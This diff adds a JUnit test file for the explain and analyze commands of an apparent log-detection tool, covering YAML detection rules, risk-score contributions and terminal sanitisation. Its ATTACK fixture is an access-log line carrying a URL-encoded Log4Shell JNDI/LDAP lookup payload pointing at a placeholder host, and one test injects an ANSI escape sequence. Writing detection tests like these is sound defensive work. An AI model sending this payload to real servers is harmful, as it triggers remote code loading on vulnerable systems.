@@ -1,0 +1,172 @@
+package dev.spoor.pipeline;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.hamcrest.MatcherAssert.assertThat;
+import static org.hamcrest.Matchers.containsString;
+import static org.hamcrest.Matchers.hasSize;
+import static org.hamcrest.Matchers.is;
+import static org.hamcrest.Matchers.not;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.PrintStream;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.Before;
+import org.junit.Rule;
+import org.junit.Test;
+import org.junit.rules.TemporaryFolder;
+
+/** What explain says is what analyze computes. */
+public class ExplainCommandTest {
+  private static final ObjectMapper JSON = new ObjectMapper();
+  private static final String ATTACK =
+      "192.0.2.1 - - [03/Mar/2025:10:15:30 +0000]"
+          + " \"GET /?x=%24%7bjndi:ldap://198.51.100.7/a%7d HTTP/1.1\" 200 5 \"-\" \"curl/8.5.0\"";
+  private static final String OURS = "test.robot-agent";
+
+  @Rule public final TemporaryFolder folder = new TemporaryFolder();
+
+  private final ByteArrayOutputStream out = new ByteArrayOutputStream();
+  private final ByteArrayOutputStream err = new ByteArrayOutputStream();
+  private Path log;
+  private Path rules;
+
+  @Before
+  public void writeFiles() throws IOException {
+    log = folder.newFile("access.log").toPath();
+    Files.writeString(log, ATTACK + "\n" + ATTACK.replace("192.0.2.1", "192.0.2.2") + "\n");
+    rules = folder.newFolder("rules").toPath();
+    Files.writeString(
+        rules.resolve("agent.yml"),
+        """
+        title: A robot by its word
+        id: %s
+        author: Somebody else
+        level: critical
+        logsource: {category: webserver}
+        detection:
+          selection:
+            cs-user-agent|startswith: curl/
+          condition: selection
+        """
+            .formatted(OURS));
+    Files.writeString(
+        rules.resolve("wrong.yml"),
+        """
+        title: Of no known field
+        id: test.wrong
+        level: high
+        logsource: {category: webserver}
+        detection:
+          selection:
+            cs-moon: full
+          condition: selection
+        """);
+  }
+
+  private int run(String... arguments) {
+    out.reset();
+    err.reset();
+    return Main.run(
+        List.of(arguments), new PrintStream(out, true, UTF_8), new PrintStream(err, true, UTF_8));
+  }
+
+  private List<JsonNode> analyze(Path output, String... more) throws IOException {
+    List<String> arguments =
+        new ArrayList<>(List.of("analyze", "--input=" + log, "--output=" + output, "--quiet"));
+    arguments.addAll(List.of(more));
+    assertThat(err.toString(UTF_8), run(arguments.toArray(new String[0])), is(0));
+    List<JsonNode> sessions = new ArrayList<>();
+    for (String line : Files.readAllLines(output.resolve("sessions/2025-03-03/sessions.jsonl"))) {
+      sessions.add(JSON.readTree(line));
+    }
+    return sessions;
+  }
+
+  private static List<String> fired(JsonNode session) {
+    List<String> fired = new ArrayList<>();
+    session.path("rule_hits").forEach(hit -> fired.add(hit.path("rule").asText()));
+    return fired;
+  }
+
+  @Test
+  public void aRuleIsOneFile() throws IOException {
+    Path output = folder.newFolder().toPath();
+    List<JsonNode> sessions = analyze(output, "--rules=" + rules);
+    assertThat("refused by name and reason", err.toString(UTF_8), containsString("wrong.yml"));
+    assertThat(err.toString(UTF_8), containsString("cs-moon"));
+    assertThat(sessions, hasSize(2));
+    JsonNode hit = null;
+    for (JsonNode one : sessions.get(0).path("rule_hits")) {
+      hit = one.path("rule").asText().equals(OURS) ? one : hit;
+    }
+    assertThat(hit.path("author").asText(), is("Somebody else"));
+    assertThat(hit.path("level").asText(), is("critical"));
+
+    String id = sessions.get(0).path("sess_uuid").asText();
+    assertThat(run("explain", id, "--output=" + output), is(0));
+    assertThat(out.toString(UTF_8), containsString("A robot by its word"));
+  }
+
+  @Test
+  public void withoutARuleItSaysWhatAnalyzeSays() throws IOException {
+    Path output = folder.newFolder().toPath();
+    String id = analyze(output, "--rules=" + rules).get(0).path("sess_uuid").asText();
+    List<JsonNode> without =
+        analyze(folder.newFolder().toPath(), "--rules=" + rules, "--without=" + OURS);
+    assertThat(run("explain", id, "--output=" + output, "--without=" + OURS, "--json"), is(0));
+    String said = out.toString(UTF_8);
+    JsonNode explained =
+        JSON.readTree(said.substring(said.indexOf('{', said.indexOf("without " + OURS))));
+    for (String field :
+        List.of("sess_uuid", "risk_score", "contributions", "bot_score", "verdict", "rule_hits")) {
+      assertThat(field, explained.get(field), is(without.get(0).get(field)));
+    }
+    assertThat(fired(explained).contains(OURS), is(false));
+  }
+
+  @Test
+  public void contributionsSumToTheScore() throws IOException {
+    for (JsonNode session : analyze(folder.newFolder().toPath(), "--rules=" + rules)) {
+      int sum = 0;
+      for (JsonNode contribution : session.path("contributions")) {
+        sum += contribution.path("points").asInt();
+      }
+      assertThat(session.path("risk_score").asInt(), is(sum));
+      assertThat(sum >= 70, is(true));
+    }
+  }
+
+  @Test
+  public void aLineShowsItsValuesAsRulesSeeThem() {
+    assertThat(run("explain", ATTACK), is(0));
+    String said = out.toString(UTF_8);
+    assertThat(said, containsString("read as combined"));
+    assertThat(said, containsString("decoded  ${jndi:ldap://198.51.100.7/a}"));
+    assertThat(said, containsString("attacker, HIGH"));
+  }
+
+  @Test
+  public void nothingOfALineReachesTheTerminalAsItIs() {
+    assertThat(run("explain", ATTACK.replace("curl/", "\u001b[31mcurl/")), is(0));
+    assertThat(out.toString(UTF_8), not(containsString("\u001b")));
+  }
+
+  @Test
+  public void wrongUseIsOneLine() throws IOException {
+    assertThat(run("explain"), is(2));
+    assertThat(run("explain", "abc"), is(2));
+    assertThat(run("explain", "not a line of any log"), is(1));
+    assertThat(err.toString(UTF_8).lines().count(), is(1L));
+    Path output = folder.newFolder().toPath();
+    assertThat(run("explain", "abc", "--output=" + output), is(1));
+    analyze(output);
+    assertThat(run("explain", "abc", "--output=" + output), is(1));
+    assertThat(err.toString(UTF_8).lines().count(), is(1L));
+  }
+}
